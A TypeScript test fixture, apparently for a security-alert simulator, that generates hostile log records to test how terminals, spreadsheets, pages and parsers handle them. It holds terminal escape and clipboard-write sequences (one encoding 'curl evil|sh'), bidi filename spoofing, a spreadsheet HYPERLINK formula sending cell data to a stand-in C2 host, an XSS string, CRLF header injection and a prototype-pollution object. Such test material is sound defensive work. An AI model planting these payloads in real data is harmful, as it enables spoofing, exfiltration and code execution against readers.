/** Records as an attacker would like to have them read: text that steers terminals, spreadsheets, pages and programs. */
import type { Dice } from '../dice.ts';
import type { LogRecord } from '../world/alerts.ts';
import { ATTACKS } from '../world/attacks.ts';
import type { Host } from '../world/hosts.ts';
import { alertRecord } from '../world/records.ts';

type Hostile = { readonly record: LogRecord; readonly minutesAgo: number };

export function hostileRecords(host: Host, dice: Dice, now: number): Hostile[] {
  const make = (minutesAgo: number, overrides: LogRecord): Hostile => {
    const record = alertRecord(dice.fork(minutesAgo), host, ATTACKS.dropper, now - minutesAgo * 60_000, minutesAgo);
    return { record: { ...record, ...overrides }, minutesAgo };
  };
  return [
    make(29, {
      file_name: ['\u001b[2J\u001b]0;all clear\u0007quarterly.exe'],
      description: 'line one\r\nline two \u202etxt.exe\u202c and \u200bhidden\u2066 text\u2069',
    }),
    make(22, {
      // Clipboard, cursor and hyperlink orders, and a NUL.
      resource: ['\u001b]52;c;Y3VybCBldmlsfHNo\u0007', '\u001b[1;1H\u001b[31mNOTHING FOUND', 'c:\\temp\\a\u0000b.exe'],
      src_user_name: ['r.marino\u001b[8m'],
    }),
    make(17, {
      file_name: ['=HYPERLINK("http://c2.example.net/?"&A1,"report")', '<script>alert(1)</script>.hta'],
      protection_name: 'Gen.Rep\r\nBcc: someone@example.org',
    }),
    // An own member of this name, as JSON.parse makes it.
    make(8, JSON.parse('{"__proto__":{"severity":"Low"},"constructor":"none","suspicious_events":" "}') as LogRecord),
    make(7, { incident_details: 'A'.repeat(4000), file_size: '9'.repeat(40), severity: 'High' }),
    noHost(make(19, {})),
    noHost(make(3, {})),
  ];
}

function noHost(hostile: Hostile): Hostile {
  const { src_machine_name: _name, src_user_name: _user, ...record } = hostile.record;
  return { ...hostile, record };
}
